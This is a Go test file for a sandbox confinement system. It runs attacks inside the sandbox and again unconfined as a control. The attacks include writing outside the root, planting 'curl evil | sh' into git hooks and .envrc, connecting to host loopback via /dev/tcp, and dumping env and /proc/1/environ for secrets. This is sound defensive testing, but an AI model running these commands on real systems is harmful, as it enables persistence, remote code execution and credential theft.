package process

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/ringfence/ringfence/internal/confine/initproc/inittest"
	"github.com/ringfence/ringfence/internal/sandbox"
	"github.com/ringfence/ringfence/internal/sandboxd/wire"
	"github.com/ringfence/ringfence/policy"
)

// Each attack is tried through the API against a confined server, and the
// same command run unconfined on the host is the control that proves the
// attack works here (so a pass is the confinement's, not the machine's).

func TestAttackWriteOutsideRoot(t *testing.T) {
	h := newHarness(t)
	outside := t.TempDir()
	target := filepath.Join(outside, "pwned")
	script := "echo pwned > " + target
	r, tr := h.execute(t, nil, "sh", "-c", script)
	if _, err := os.Stat(target); err == nil {
		t.Fatalf("a command wrote outside the root (exit %d)", r.GetExitCode())
	}
	if r.GetExitCode() == 0 || tr.Get(wire.TrailerKind)[0] == string(sandbox.KindSuccess) {
		t.Errorf("refused write: exit %d kind %v", r.GetExitCode(), tr.Get(wire.TrailerKind))
	}
	control(t, script)
	if _, err := os.Stat(target); err != nil {
		t.Fatalf("control: the unconfined write did not land: %v", err)
	}
}

func TestAttackPlantProtectedPath(t *testing.T) {
	h := newHarness(t)
	must(t, os.MkdirAll(filepath.Join(h.root, ".git/hooks"), 0o755))
	for _, rel := range []string{".git/hooks/pre-commit", ".envrc", "sub/.git/config"} {
		script := "mkdir -p $(dirname " + rel + ") && echo 'curl evil | sh' > " + rel
		r, _ := h.execute(t, nil, "sh", "-c", script)
		if _, err := os.Stat(filepath.Join(h.root, rel)); err == nil {
			t.Errorf("a command planted %s (exit %d)", rel, r.GetExitCode())
		}
	}
	// Control: the same plant, unconfined, in a copy of the layout.
	ctl := t.TempDir()
	must(t, os.MkdirAll(filepath.Join(ctl, ".git/hooks"), 0o755))
	controlIn(t, ctl, "echo x > .git/hooks/pre-commit && echo x > .envrc")
	for _, rel := range []string{".git/hooks/pre-commit", ".envrc"} {
		if _, err := os.Stat(filepath.Join(ctl, rel)); err != nil {
			t.Fatalf("control: %s not written unconfined: %v", rel, err)
		}
	}
}

// Neither under network deny nor under loopback (the session's own) can a
// command reach a service on the host's loopback.
func TestAttackHostLoopback(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 16)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted <- struct{}{}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	script := fmt.Sprintf("exec 3<>/dev/tcp/127.0.0.1/%d && echo connected", port)
	for _, mode := range []policy.NetworkMode{policy.NetDeny, policy.NetLoopback} {
		h := newHarness(t, func(d *policy.Defaults) { d.Network = policy.Network{Mode: mode} })
		r, _ := h.execute(t, nil, "bash", "-c", script)
		if strings.Contains(string(r.GetStdout()), "connected") || len(accepted) > 0 {
			t.Fatalf("network %s: a command reached the host's loopback", mode)
		}
	}
	control(t, "bash -c '"+script+"'")
	select { // the accept loop may report it a moment after the connect
	case <-accepted:
	case <-time.After(5 * time.Second):
		t.Fatal("control: the unconfined connect was not accepted")
	}
}

// The server's own environment (its credentials) never reaches a command,
// whatever the request's env adds.
func TestAttackServerEnvironment(t *testing.T) {
	t.Setenv("K17A_SERVER_SECRET", "s3cr3t-value")
	t.Setenv("AWS_SECRET_ACCESS_KEY", "aws-s3cr3t")
	h := newHarness(t)
	r, _ := h.execute(t, nil, "sh", "-c", "env; cat /proc/1/environ 2>/dev/null | tr '\\0' '\\n'")
	if out := string(r.GetStdout()); strings.Contains(out, "s3cr3t") {
		t.Fatalf("the server's environment reached the command:\n%s", out)
	}
	out, err := exec.Command("env").Output()
	if err != nil || !strings.Contains(string(out), "s3cr3t-value") {
		t.Fatalf("control: the unconfined env lacks the secret: %v", err)
	}
}

func TestAttacksAsNonRoot(t *testing.T) {
	inittest.RerunAsNonRoot(t, "^(TestAttackWriteOutsideRoot|TestAttackPlantProtectedPath|TestAttackHostLoopback|TestAttackServerEnvironment|TestStartPTYAndResize|TestStartStdin)$")
}

func control(t *testing.T, script string) { controlIn(t, "", script) }

func controlIn(t *testing.T, dir, script string) {
	t.Helper()
	c := exec.Command("sh", "-c", script)
	c.Dir = dir
	if out, err := c.CombinedOutput(); err != nil {
		t.Fatalf("control %q: %v\n%s", script, err, out)
	}
}
